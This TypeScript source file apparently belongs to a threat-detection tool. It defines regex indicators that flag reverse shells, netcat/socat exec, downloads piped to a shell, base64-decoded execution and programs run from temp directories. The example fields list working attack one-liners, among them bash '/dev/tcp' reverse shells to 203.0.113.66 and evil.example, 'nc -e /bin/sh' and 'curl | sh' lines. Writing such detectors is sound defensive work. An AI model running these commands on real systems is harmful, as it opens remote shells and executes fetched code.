/**
 * Content that makes a finding high severity whatever its rarity: what a payload does, read from the
 * full command lines and executables of the finding (never from display copies). Each indicator is
 * data with examples and counter-examples that the tests run. The patterns avoid nested unbounded
 * quantifiers so that a megabyte of attacker text costs linear time.
 */
export type IndicatorInput = 'command-line' | 'executable';

export interface SeverityIndicator {
  readonly id: string;
  /** Shown in every channel: "high: reverse shell over /dev/tcp". */
  readonly title: string;
  readonly appliesTo: readonly IndicatorInput[];
  readonly pattern: RegExp;
  /** Values that must match (the tests say so). */
  readonly examples: readonly string[];
  /** Values that must not match: benign look-alikes from real fleets. */
  readonly counterExamples: readonly string[];
}

const SHELL = '(?:ba|da|z|k|mk|a)?sh';
const SHELL_OR_INTERPRETER = `(?:${SHELL}|python[0-9.]*|perl|ruby|php)`;
/** A program after a pipe, optionally through sudo or an absolute path: `| sh`, `| sudo bash`, `| /bin/sh`. */
const PIPED_TO = `\\|\\s*(?:sudo\\s+(?:-[A-Za-z]+\\s+)*)?(?:/[\\w.-]+)*/?${SHELL_OR_INTERPRETER}\\b`;
const TEMP_DIR = '(?:/tmp|/var/tmp|/dev/shm|/run/shm)/';

export const SEVERITY_INDICATORS: readonly SeverityIndicator[] = [
  {
    id: 'reverse-shell-dev-tcp',
    title: 'reverse shell over /dev/tcp or /dev/udp',
    appliesTo: ['command-line'],
    pattern: /\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+/,
    examples: ["bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'", 'exec 5<>/dev/tcp/evil.example/443', 'sh -c "cat </dev/udp/10.0.0.9/53"'],
    counterExamples: ['ls /dev/tcp', 'ip route replace 10.20.0.0/16 dev tun0'],
  },
  {
    id: 'interactive-shell',
    title: 'interactive shell (sh -i) started by a script',
    appliesTo: ['command-line'],
    pattern: new RegExp(`(?:^|[\\s'"\`;|&(/])${SHELL}\\s+(?:-[A-Za-z]+\\s+)*-[A-Za-z]*i[A-Za-z]*(?=$|[\\s'"\`;)&|])`),
    examples: ['bash -i', "nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'", '/bin/sh -i', 'zsh -li'],
    counterExamples: ['ssh -i /root/.ssh/id_ed25519 backup@10.0.0.5', 'bash /etc/NetworkManager/dispatcher.d/01-ifupdown eth0 up', 'git push -i', 'sed -i s/a/b/ /etc/hosts'],
  },
  {
    id: 'netcat-exec',
    title: 'netcat or socat executing a program',
    appliesTo: ['command-line'],
    pattern: /(?:^|[\s'"`;|&(/])(?:n(?:c|cat|etcat)(?:\.[a-z]+)?\s(?:[^|;&\n]*\s)?(?:-[A-Za-z]*[ec]|--(?:sh-|lua-)?exec)(?=$|[\s/'"])|socat\s[^\n]*\b(?:exec|system):)/i,
    examples: ['nc -e /bin/sh 203.0.113.66 4444', 'ncat --exec /bin/bash 203.0.113.66 443', 'nc.traditional -lvp 4444 -e /bin/bash', 'socat tcp:203.0.113.66:4444 exec:/bin/sh,pty', '/usr/bin/nc -c sh 10.0.0.1 9'],
    counterExamples: ['nc -z 10.0.0.1 443', 'nc -zv -w 2 gateway.internal 22', 'ncat --version', 'socat -d TCP-LISTEN:8080 TCP:localhost:80'],
  },
  {
    id: 'download-to-shell',
    title: 'download piped to a shell or interpreter',
    appliesTo: ['command-line'],
    pattern: new RegExp(`\\b(?:curl|wget|fetch)\\b[^|\\n]*${PIPED_TO}|(?:\\$\\(|<\\(|\`)\\s*(?:curl|wget)\\b`),
    examples: ['curl -fsSL http://203.0.113.66/s | sh', 'wget -qO- http://x.example/i.sh | sudo bash', "sh -c \"$(curl -fsSL http://203.0.113.66/s)\"", 'bash <(wget -qO- http://203.0.113.66/s)', 'curl http://x | /usr/bin/python3'],
    counterExamples: ['curl -fsSL http://203.0.113.66/s2 -o /tmp/.s2', 'wget -q https://repo.example.com/key.gpg -O /etc/apt/keyrings/x.gpg', 'curl -s http://169.254.169.254/latest/meta-data/ | grep ami'],
  },
  {
    id: 'base64-exec',
    title: 'base64-decoded code executed',
    appliesTo: ['command-line'],
    pattern: new RegExp(`\\bbase64\\s+(?:-[A-Za-z]+\\s+)*(?:-d|-D|--decode)\\b[^|\\n]*${PIPED_TO}|b64decode[\\s\\S]{0,400}?\\b(?:exec|eval)\\b|\\b(?:exec|eval)\\s*\\([\\s\\S]{0,400}?b64decode`),
    examples: ['echo YmFzaCAtaQ== | base64 -d | bash', 'base64 --decode /tmp/p | sh', "python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'", "python -c \"exec(__import__('base64').b64decode('eA=='))\""],
    counterExamples: ['base64 -d /etc/secret.b64 > /etc/secret', "python3 -c 'import base64; print(base64.b64decode(x))'"],
  },
  {
    id: 'runs-from-temp',
    title: 'runs from /tmp, /var/tmp, /dev/shm or memory',
    appliesTo: ['command-line', 'executable'],
    pattern: new RegExp(`^\\s*${TEMP_DIR}\\S|^/dev/fd/|memfd:|(?:[;|&]\\s*|\\b(?:exec|nohup|setsid|sh|bash|dash|python[0-9.]*|perl)\\s+)${TEMP_DIR}\\S`),
    examples: ['/tmp/.s2', '/dev/shm/x', '/var/tmp/.cache/kworker', '/memfd:payload (deleted)', 'chmod +x /tmp/.s2 && /tmp/.s2', 'nohup /dev/shm/.x &', 'sh /tmp/i.sh'],
    counterExamples: ['/usr/bin/curl', 'curl -fsSL http://203.0.113.66/s2 -o /tmp/.s2', 'rm -f /tmp/nm-dispatcher.lock', 'mktemp /tmp/nm.XXXXXX'],
  },
];

/** What an indicator match says about a finding: which indicator, on which value. */
export interface IndicatorMatch {
  readonly id: string;
  readonly title: string;
}

/** Longest value matched, so that a multi-megabyte command line cannot stall the run. */
export const MAX_MATCHED_CHARS = 1_000_000;

/** Indicators found in any of these values, in the order of SEVERITY_INDICATORS, each once. */
export function indicatorsIn(values: { readonly commandLines: readonly string[]; readonly executables: readonly string[] }): IndicatorMatch[] {
  const inputs: Record<IndicatorInput, readonly string[]> = {
    'command-line': values.commandLines.map((v) => v.slice(0, MAX_MATCHED_CHARS)),
    executable: values.executables.map((v) => v.slice(0, MAX_MATCHED_CHARS)),
  };
  return SEVERITY_INDICATORS.filter((indicator) => indicator.appliesTo.some((kind) => inputs[kind].some((value) => indicator.pattern.test(value)))).map(({ id, title }) => ({ id, title }));
}
